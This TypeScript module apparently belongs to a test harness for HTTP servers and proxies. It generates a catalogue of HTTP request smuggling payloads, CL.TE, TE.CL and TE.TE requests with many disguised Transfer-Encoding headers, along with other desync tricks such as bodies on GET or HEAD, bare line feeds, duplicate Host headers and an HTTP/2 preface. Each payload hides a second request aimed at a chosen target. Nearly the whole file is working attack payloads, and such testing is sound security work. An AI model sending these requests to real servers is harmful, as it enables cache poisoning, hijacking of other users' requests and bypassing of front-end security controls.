import { ambiguousLengths, malformedChunks } from '../test/suite/message-rules.ts';

/** Requests that two servers may take for different ones, each with a request hidden in it for the target. */
export type Attack = { readonly title: string; readonly text: (hidden: string) => string };

const host = 'Host: localhost\r\n';

function hiddenRequest(target: string): string {
  return `GET ${target} HTTP/1.1\r\n${host}X: `;
}

function post(fields: string, body: string): string {
  return `POST /nothing HTTP/1.1\r\n${host}${fields}\r\n\r\n${body}`;
}

/** Requests with both Content-Length and Transfer-Encoding, the latter disguised in many ways from one of two servers. */
const transferEncodings = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunk\r\n ed',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked;a=b',
  'transfer-encoding: CHUNKED',
  ' Transfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding\0: chunked',
];

/** Other ways to be understood in two ways. */
const others: Readonly<Record<string, Attack['text']>> = {
  'a GET with a body': (hidden) =>
    `GET /nothing HTTP/1.1\r\n${host}Content-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'a HEAD with a body': (hidden) =>
    `HEAD /nothing HTTP/1.1\r\n${host}Content-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'chunks of HTTP/1.0': (hidden) =>
    `POST /nothing HTTP/1.0\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`,
  'an absolute target of another host': (hidden) =>
    `GET http://other/nothing HTTP/1.1\r\n${host}\r\n${hidden}`,
  'an absolute target with a line in it': (hidden) =>
    `GET http://a/%0d%0a%0d%0a${encodeURIComponent(hidden)} HTTP/1.1\r\n${host}\r\n`,
  'HTTP/0.9 first': (hidden) => `GET /nothing\r\n${hidden}\r\n\r\n`,
  'bare LF': (hidden) => `GET /nothing HTTP/1.1\nHost: a\n\n${hidden}`,
  'empty lines first': (hidden) => `\r\n\r\n\n${hidden}\r\n\r\n`,
  'two Hosts': (hidden) => `GET /nothing HTTP/1.1\r\n${host}${host}\r\n${hidden}`,
  'a request that goes on in the next': (hidden) => `GET /nothing HTTP/1.1\r\n${host}\r\n${hidden}`,
  'HTTP/2': (hidden) => `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${hidden}`,
};

/** Every attack that is known here. */
export const attacks: readonly Attack[] = [
  ...transferEncodings.flatMap((field): Attack[] => [
    {
      title: `CL.TE with ${JSON.stringify(field)}`,
      text: (hidden) =>
        post(`Content-Length: ${hidden.length + 5}\r\n${field}`, `0\r\n\r\n${hidden}`),
    },
    {
      title: `TE.CL with ${JSON.stringify(field)}`,
      text: (hidden) => {
        const size = hidden.length.toString(16);
        const body = `${size}\r\n${hidden}\r\n0\r\n\r\n`;
        return post(`${field}\r\nContent-Length: ${size.length + 2}`, body);
      },
    },
    {
      title: `TE.TE with ${JSON.stringify(field)}`,
      text: (hidden) => post(field, `0\r\n\r\n${hidden}`),
    },
  ]),
  ...[...ambiguousLengths, ...malformedChunks].map(([title, message]) => ({
    title,
    text: (hidden: string) => `${message}${hidden}\r\n\r\n`,
  })),
  ...Object.entries(others).map(([title, text]) => ({ title, text })),
].map(({ title, text }) => ({ title, text: (target) => text(hiddenRequest(target)) }));

/** The maximum number of requests in a text: one for each request line. */
export function mostRequests(text: string): number {
  return text.match(/(?:GET|HEAD|POST|PRI) \S+/g)?.length ?? 0;
}
